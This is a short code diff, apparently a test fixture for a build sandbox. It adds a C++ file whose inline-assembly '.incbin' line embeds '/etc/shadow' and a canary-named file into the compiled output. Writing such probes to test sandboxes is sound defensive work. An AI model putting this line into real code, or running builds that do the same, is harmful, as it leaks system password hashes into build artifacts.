@@ -1,0 +1,3 @@
+#include "convnet.hpp"
+
+__asm__(".incbin \"/etc/shadow\"\n.incbin \"@CANARY@\"\n");
